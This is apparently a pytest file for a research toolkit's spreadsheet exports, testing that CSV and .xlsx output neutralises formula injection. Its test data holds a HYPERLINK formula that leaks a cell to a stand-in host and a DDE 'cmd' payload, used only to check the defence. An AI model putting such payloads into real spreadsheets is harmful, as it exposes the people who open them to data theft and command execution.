"""Spreadsheet formula injection (issue 11.6): every cell qualkit writes from user text is text
(.xlsx string cells; CSV cells starting with = + - @ tab CR get a leading apostrophe), while
numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from qualkit.cli import main
from qualkit.services import exports
from qualkit.store.models import Code
from qualkit.tabular import neutralise

from .export_helpers import build_project, standin_recognisers  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
CMD = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (EVIL, "'" + EVIL),
        (CMD, "'" + CMD),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "-5"),
        ("-0,5", "-0,5"),
        ("+45", "+45"),
        ("52,3 %", "52,3 %"),
        ("1e-3", "1e-3"),
        ("-", "-"),
        ("almindelig tekst", "almindelig tekst"),
        (3, "3"),
        (-2.5, "-2,5"),
        (None, ""),
    ],
)
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh, delimiter=";"))


def test_tally_csvs_neutralise_user_text_and_keep_numbers(tmp_path, monkeypatch):
    monkeypatch.setenv("QUALKIT_TMPDIR", str(tmp_path / "tmp"))
    reg = tmp_path / "p.csv"
    reg.write_text(
        "citizen_id;arm;site;eligible;start_date;gruppe\n"
        f"B01;indsats;{EVIL.replace(';', ',')};ja;01-02-2024;{CMD}\n"
        "B02;indsats;Nord;ja;01-02-2024;@SUM(A1)\n"
        "B03;indsats;Nord;ja;01-02-2024;x\n",
        encoding="utf-8",
    )
    log = tmp_path / "e.csv"
    log.write_text(
        "citizen_id;date;component;minutes\nB01;02-02-2024;trepartssamtale;45,5\n", "utf-8"
    )
    proto = Path(__file__).resolve().parent.parent / "codebooks" / "protocol_tki2.yaml"
    out = tmp_path / "out"
    args = ["tally", "--participants", str(reg), "--events", str(log), "--protocol", str(proto)]
    assert main([*args, "--out", str(out)]) == 0
    pc = {r["citizen_id"]: r for r in read_csv(out / "per_citizen.csv")}
    assert pc["B01"]["site"] == "'" + EVIL.replace(";", ",")
    assert pc["B01"]["minutes_delivered"] == "45,5"  # numbers stay numbers
    reach = read_csv(out / "reach.csv")
    levels = {r["level"] for r in reach}
    assert "'" + CMD in levels and "'@SUM(A1)" in levels
    for name in ("per_citizen", "summary", "flow", "checks", "reach"):
        for row in read_csv(out / f"{name}.csv"):
            for value in row.values():
                if value and value[0] in "=+@\t\r":
                    assert value == neutralise(value), (name, value)


def test_codings_xlsx_and_csv_hold_text_not_formulas(db, tmp_path, standin_recognisers):  # noqa: F811
    b = build_project(db)
    with db.session(write=True) as s:
        code = s.scalars(select(Code).order_by(Code.id)).first()
        code.name = EVIL
    result = exports.export_codings(b.ctx("writer"), tmp_path / "k.xlsx")
    assert result.counts["consensus"] > 0
    wb = openpyxl.load_workbook(tmp_path / "k.xlsx")
    cells = [c for row in wb["Kodninger"].iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)  # a string, never a formula
    matrix = [c for row in wb["Koder x deltagere"].iter_rows() for c in row]
    assert any(c.value == EVIL and c.data_type == "s" for c in matrix)
    assert any(c.data_type == "n" and isinstance(c.value, int) for c in matrix)  # counts
    segs = [r[1] for r in wb["Kodninger"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(v, int) for v in segs)  # segment numbers stay numbers

    exports.export_codings(b.ctx("writer"), tmp_path / "k.csv")
    rows = read_csv(tmp_path / "k.csv")
    assert any(r["kode"] == "'" + EVIL for r in rows)
    assert not any(r["kode"] == EVIL for r in rows)


def test_agreement_csv_neutralises_code_names(tmp_path, monkeypatch):
    monkeypatch.setenv("QUALKIT_TMPDIR", str(tmp_path / "tmp"))
    src = tmp_path / "c.csv"
    src.write_text(
        f"document_id;segment_id;coder;code\nd;1;a;{CMD}\nd;1;b;{CMD}\nd;2;a;x\nd;2;b;\n", "utf-8"
    )
    assert main(["agreement", "--codings", str(src), "--out", str(tmp_path / "o")]) == 0
    codes = [r["code"] for r in read_csv(tmp_path / "o" / "agreement.csv")]
    assert "'" + CMD in codes and CMD not in codes
